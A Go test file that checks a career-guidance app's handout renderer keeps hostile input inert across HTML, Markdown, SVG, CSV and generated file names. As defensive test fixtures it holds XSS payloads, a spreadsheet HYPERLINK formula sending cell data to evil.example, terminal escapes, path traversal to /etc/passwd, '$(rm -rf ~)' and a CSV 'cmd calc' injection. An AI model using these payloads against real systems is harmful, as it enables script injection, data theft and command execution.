package handout_test

import (
	"encoding/csv"
	"encoding/xml"
	"errors"
	"fmt"
	"io"
	"regexp"
	"strings"
	"testing"
	"unicode"

	"golang.org/x/text/language"

	"parcours/careers"
	"parcours/careers/notebook"
	"parcours/ui/handout"
	"parcours/ui/i18n"
	"parcours/ui/internal/uitest"
)

func formats(d *handout.Document) map[string]func(io.Writer) error {
	return map[string]func(io.Writer) error{"html": d.HTML, "md": d.Markdown, "txt": d.Text}
}

// hostile are texts that something on the way would obey.
func hostile() map[string]string {
	return map[string]string{
		"markup":              `<script>alert(1)</script><img src=x onerror=alert(1)>`,
		"an end of elements":  `</title></desc></svg></style></textarea>--></body><iframe src=//evil.example>`,
		"quotes":              `" onload="alert(1)" ' onclick='alert(1)`,
		"a script address":    `javascript:alert(1)`,
		"a markdown link":     `[here](javascript:alert(1)) ![x](https://evil.example/x.png) <https://evil.example>`,
		"markdown structure":  "# head\n- item\n> quote\n```\n***\n| a | b |\n~~gone~~ `code`",
		"an entity":           `&lt;b&gt; &#x3c; &amp;`,
		"a terminal's escape": "\x1b]8;;https://evil.example\x07\x1b[2J\x1b[31mred\u009b2J",
		"a turned text":       "abc\u202egpj.exe\u2066x\u2069\u200f",
		"line breaks":         "one\r\ntwo\u2028three\u2029four\x00five\x0bsix",
		"a formula":           `=HYPERLINK("https://evil.example?"&A1,"x")`,
		"a template":          `{{.Words}} {{printf "%s" "x"}} ${x} #{x}`,
		"a style":             `}</style>*{background:url(https://evil.example)}`,
		"a path":              `../../etc/passwd\..\x`,
		"broken UTF-8":        "a\xff\xfe\xc3(",
	}
}

// poisonedOrder asks for all there is, in hostile words.
func poisonedOrder(bad string) handout.Order {
	return handout.Order{
		Nodes: []careers.NodeID{"joiner", "apprentice"}, Map: true, Ways: []handout.Way{{From: "apprentice", To: "joiner"}, {From: careers.FromEntry, To: "joiner"}},
		Compare: []careers.NodeID{"joiner", "apprentice"}, Date: bad, Program: bad, Command: bad,
		Notes: &notebook.Content{
			Kept: []notebook.Choice{{Node: careers.NodeID(bad), Why: bad}}, Routes: []notebook.Route{{Nodes: []careers.NodeID{careers.NodeID(bad)}, Aim: bad, Note: bad}},
			Notes: []notebook.Note{{Node: careers.NodeID(bad), Text: bad}}, Questions: []notebook.Question{{Node: careers.NodeID(bad), Ask: bad, Answer: bad}, {Ask: bad}},
		},
	}
}

func TestHostileTextIsInertInEveryFormat(t *testing.T) {
	w := i18n.In(language.English)
	for name, bad := range hostile() {
		t.Run(name, func(t *testing.T) {
			g := uitest.Poisoned(t, bad)
			for _, full := range []bool{false, true} {
				o := poisonedOrder(bad)
				o.Full = full
				for format, text := range rendered(t, handout.Compose(g, w, o)) {
					for _, what := range obeyed(format, text) {
						t.Errorf("%s, full %v: %s", format, full, what)
					}
				}
			}
			var svg strings.Builder
			if err := handout.SVG(&svg, g, w); err != nil {
				t.Fatal(err)
			}
			for _, what := range append(obeyed("html", svg.String()), notXML(svg.String())...) {
				t.Errorf("svg: %s", what)
			}
		})
	}
}

// obeyed lists what in a document is more than text.
func obeyed(format, text string) (found []string) {
	for _, r := range text {
		if r != '\n' && (unicode.IsControl(r) || unicode.In(r, unicode.Cf, unicode.Zl, unicode.Zp)) || r == unicode.ReplacementChar && strings.ContainsRune("\x1b", r) {
			found = append(found, fmt.Sprintf("the character %U", r))
		}
	}
	switch format {
	case "html":
		found = append(found, foreign(text)...)
	case "md":
		found = append(found, foreignMarkdown(text)...)
	}
	return found
}

var (
	styles     = regexp.MustCompile(`(?s)<style>.*?</style>`)
	tagName    = regexp.MustCompile(`^</?!?[a-zA-Z0-9]+`)
	activeTags = regexp.MustCompile(`^</?(script|img|iframe|object|embed|link|base|form|b|textarea)$`)
	attributes = regexp.MustCompile(`\s([a-zA-Z:-]+)=("[^"]*"|[^\s">]+)`)
)

// foreign lists elements, attributes and addresses that are none of ours.
func foreign(page string) (found []string) {
	page = styles.ReplaceAllStringFunc(page, func(style string) string {
		if strings.Contains(style, "evil") || strings.Contains(style, "url(") {
			found = append(found, "a style of theirs")
		}
		return ""
	})
	for _, tag := range tags.FindAllString(page, -1) {
		name := tagName.FindString(tag)
		if activeTags.MatchString(name) {
			found = append(found, "the element "+tag)
		}
		for _, attribute := range attributes.FindAllStringSubmatch(tag, -1) {
			switch name, value := attribute[1], strings.Trim(attribute[2], `"`); {
			case strings.HasPrefix(name, "on"), name == "style", name == "src", name == "srcdoc":
				found = append(found, "the attribute "+attribute[0])
			case name == "href" && !strings.HasPrefix(value, "#"):
				found = append(found, "the address "+value)
			}
		}
	}
	return found
}

// foreignMarkdown lists what a reader of Markdown would take for more than text.
func foreignMarkdown(text string) (found []string) {
	text = regexp.MustCompile("(?s)\n(`{3,})text\n.*?\n(`{3,})(\n|$)").ReplaceAllString(text, "\n")
	text = regexp.MustCompile(`\\[[:punct:]]`).ReplaceAllString(text, "")
	for _, c := range []struct{ what, pattern string }{
		{"an element", `<[a-zA-Z/!]`},
		{"a link", `\]\(|\]\[`},
		{"an entity", `&[#a-zA-Z]`},
		{"struck text", `~~`},
		{"a quote", `(?m)^\s*>`},
		{"code", "`"},
	} {
		for _, at := range regexp.MustCompile(c.pattern).FindAllString(strings.ReplaceAll(text, "<br>", ""), -1) {
			if c.what != "code" { // the bars of pay are code
				found = append(found, c.what+" "+at)
			}
		}
	}
	for _, line := range strings.Split(text, "\n") {
		if strings.HasPrefix(line, "# head") || strings.TrimSpace(line) == "***" {
			found = append(found, "structure: "+line)
		}
	}
	return found
}

// notXML says where a text is no well-formed XML.
func notXML(text string) []string {
	for d := xml.NewDecoder(strings.NewReader(text)); ; {
		if _, err := d.Token(); errors.Is(err, io.EOF) {
			return nil
		} else if err != nil {
			return []string{err.Error()}
		}
	}
}

func TestWebAddressesAloneBecomeLinks(t *testing.T) {
	for _, c := range []struct {
		url  string
		link bool
	}{
		{"https://example.org/a?b=c&d#e", true},
		{"http://example.org", true},
		{"javascript:alert(1)", false},
		{"https:javascript", false},
		{"data:text/html,x", false},
		{"//evil.example", false},
		{"https://", false},
		{"https://exa mple.org", false},
		{`https://example.org/"onclick="x`, false},
	} {
		g := uitest.Poisoned(t, "x")
		g.Source("S1").URL = c.url
		page := rendered(t, handout.Compose(g, i18n.In(language.English), handout.Order{Nodes: []careers.NodeID{"joiner"}}))["html"]
		if got := regexp.MustCompile(`href="[^#]`).MatchString(page); got != c.link {
			t.Errorf("%s: a link is %v, want %v", c.url, got, c.link)
		}
	}
}

func TestFileNamesArePlainAndStayInTheirFolder(t *testing.T) {
	for _, c := range []struct {
		words []string
		want  string
	}{
		{[]string{"cto"}, "parcours-cto.html"},
		{[]string{"backend-developer", "cto"}, "parcours-backend-developer-cto.html"},
		{[]string{"route", "bts-sio,cto"}, "parcours-route-bts-sio-cto.html"},
		{[]string{"../../etc/passwd"}, "parcours-etc-passwd.html"},
		{[]string{`C:\Windows\con`}, "parcours-c-windows-con.html"},
		{[]string{"a b\tc\nd"}, "parcours-a-b-c-d.html"},
		{[]string{"Développeuse"}, "parcours-developpeuse.html"},
		{[]string{"con"}, "parcours-con.html"},
		{[]string{"", "…", "--"}, "parcours.html"},
		{[]string{"$(rm -rf ~)", "`x`", "%00", "-o"}, "parcours-rm-rf-x-00-o.html"},
		{[]string{strings.Repeat("long-", 40)}, "parcours-" + strings.TrimSuffix(strings.Repeat("long-", 14), "-") + "-l.html"},
	} {
		got := handout.FileName("html", c.words...)
		if c.want != got {
			t.Errorf("%q: %s, want %s", c.words, got, c.want)
		}
		if !regexp.MustCompile(`^[a-z0-9-]+\.html$`).MatchString(got) || len(got) > 100 {
			t.Errorf("%q: %s", c.words, got)
		}
	}
}

func TestNoCellIsAFormula(t *testing.T) {
	for _, c := range []struct{ cell, want string }{
		{"Joiner", "Joiner"},
		{"22000", "22000"},
		{"-5", "-5"},
		{"+33", "+33"},
		{"3,5", "3,5"},
		{"=1+1", "'=1+1"},
		{"+1+1", "'+1+1"},
		{"-1+cmd|' /C calc'!A0", "'-1+cmd|' /C calc'!A0"},
		{"@SUM(A1)", "'@SUM(A1)"},
		{"  =1+1", "'  =1+1"},
		{"\t=1+1", "' =1+1"},
		{"\u00a0=1", "'\u00a0=1"},
		{"＝1+1", "'＝1+1"},
		{"a;b\"c\nd", `a;b"c d`},
		{"\x1b[31mred", "[31mred"},
	} {
		for _, lang := range languages() {
			w := i18n.In(lang)
			var b strings.Builder
			if err := handout.CSV(&b, w, [][]string{{"head", "other"}, {c.cell, "x"}}); err != nil {
				t.Fatal(err)
			}
			r := csv.NewReader(strings.NewReader(strings.TrimPrefix(b.String(), "\ufeff")))
			r.Comma = rune(w.Handout.Separator[0])
			rows, err := r.ReadAll()
			if err != nil {
				t.Fatal(err)
			}
			if got := rows[1][0]; got != c.want {
				t.Errorf("%v: %q becomes %q, want %q", lang, c.cell, got, c.want)
			}
		}
	}
}
